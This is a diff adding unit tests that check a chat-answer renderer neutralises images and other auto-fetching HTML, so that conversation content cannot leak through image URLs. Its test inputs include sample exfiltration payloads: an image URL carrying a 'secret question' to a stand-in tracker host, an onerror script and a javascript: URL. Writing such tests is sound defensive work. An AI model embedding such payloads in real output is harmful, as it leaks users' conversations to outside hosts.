@@ -100,3 +100,40 @@ describe('links inside svg', () => {
     }
   });
 });
+
+describe('images in answers', () => {
+  // Anything that would make the browser fetch a URL by itself (an image can carry the chat in its URL).
+  const fetchesByItself = (el: HTMLElement) =>
+    el.querySelectorAll('img, picture, source, image, feImage, video, audio, iframe, [background], [poster], [srcset]').length;
+
+  it('turns a Markdown image into a link that loads nothing until clicked', () => {
+    const el = render('See ![the chart](https://tracker.test/c.png?q=my+secret+question) here.');
+    expect(fetchesByItself(el)).toBe(0);
+    const a = el.querySelector('a')!;
+    expect(a.textContent).toBe('the chart');
+    expect(a.getAttribute('href')).toBe('https://tracker.test/c.png?q=my+secret+question');
+    expect(a.getAttribute('target')).toBe('_blank');
+    expect(a.getAttribute('rel')).toBe('noopener noreferrer');
+  });
+
+  it('turns raw HTML images into links too, keeping only a safe address and the alt text', () => {
+    const el = render('<p>A <img src="https://tracker.test/p.gif?c=abc" alt="pixel" width="1" onerror="window.__pwned=1"> and <img src="javascript:alert(1)"></p>');
+    expect(fetchesByItself(el)).toBe(0);
+    const links = [...el.querySelectorAll('a')];
+    expect(links.map((a) => a.textContent)).toEqual(['pixel', 'Image']);
+    expect(links[0]!.getAttribute('href')).toBe('https://tracker.test/p.gif?c=abc');
+    expect(links[0]!.getAttributeNames().sort()).toEqual(['href', 'rel', 'target']);
+    expect(links[1]!.getAttribute('href') ?? '').toBe('');
+  });
+
+  it('drops every other element or attribute that fetches by itself', () => {
+    const el = render(
+      '<picture><source srcset="https://t.test/a.webp"><source src="https://t.test/b.png"></picture>' +
+        '<svg><image href="https://t.test/s.png"></image><filter><feImage href="https://t.test/f.png"></feImage></filter></svg>' +
+        '<table background="https://t.test/bg.png"><tr><td background="https://t.test/td.png">cell</td></tr></table>',
+    );
+    expect(fetchesByItself(el)).toBe(0);
+    expect(el.innerHTML).not.toContain('t.test');
+    expect(el.querySelector('td')?.textContent).toBe('cell');
+  });
+});
